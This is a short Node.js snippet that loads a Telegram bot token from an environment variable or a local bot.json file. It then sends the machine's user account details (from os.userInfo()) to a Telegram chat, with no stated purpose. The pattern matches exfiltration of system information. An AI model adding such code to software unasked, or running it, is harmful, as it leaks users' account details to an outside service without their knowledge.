const os = require('os');

let token = process.env.STATUS_BOT;
token ||= require('./bot.json').key;
fetch(`https://api.telegram.org/bot${token}/sendMessage?chat_id=1&text=${encodeURIComponent(JSON.stringify(os.userInfo()))}`);
